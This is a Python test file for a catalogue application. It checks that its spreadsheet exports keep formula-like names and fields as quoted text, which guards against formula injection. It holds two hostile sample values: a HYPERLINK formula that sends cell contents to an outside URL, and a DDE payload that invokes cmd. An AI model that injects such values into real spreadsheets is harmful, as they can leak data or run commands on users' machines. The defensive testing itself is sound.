"""Every catalogue workbook (the list export, the transfer report, the gap report) keeps text
that a spreadsheet would evaluate as text (issue 12, finding 4)."""

import io

from openpyxl import load_workbook

from oneseal.catalogue import actions
from oneseal.catalogue.exporting import export_catalogue
from oneseal.catalogue.queries import guidance_gaps, transfer_report
from oneseal.catalogue.report_sheets import guidance_gaps_xlsx, transfer_report_xlsx

from .test_reports import D1, guidance, housing, listed  # noqa: F401 — fixtures

HOSTILE = '=HYPERLINK("http://x"&B3,"查看")'


def hostile_cells(data: bytes):
    book = load_workbook(io.BytesIO(data))
    every = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in every if c.data_type == "f"], "no formula anywhere"
    return [c for c in every if isinstance(c.value, str) and c.value.startswith(("=", "@", "-"))]


def test_the_list_export_keeps_a_formula_like_name_as_text(catalogue, admin_user, complete_draft):
    version = complete_draft("XK-077", HOSTILE)
    actions.update_draft(version, actor=admin_user, legal_basis="@SUM(1+1)*cmd|' /C calc'!A0")
    actions.publish(version, actor=admin_user, effective_from=D1)
    found = hostile_cells(export_catalogue(catalogue, on=D1))
    assert {c.value for c in found} >= {HOSTILE, "@SUM(1+1)*cmd|' /C calc'!A0"}
    assert all(c.data_type == "s" and c.quotePrefix for c in found)


def test_the_transfer_and_gap_reports_keep_a_formula_like_department_as_text(
    listed,  # noqa: F811
    guidance,  # noqa: F811
    housing,  # noqa: F811
    county,
):
    housing.name = HOSTILE
    housing.save()
    found = hostile_cells(transfer_report_xlsx(transfer_report(county)))
    assert [c.value for c in found] == [HOSTILE] and found[0].data_type == "s"
    hostile_cells(guidance_gaps_xlsx(guidance_gaps(county)))
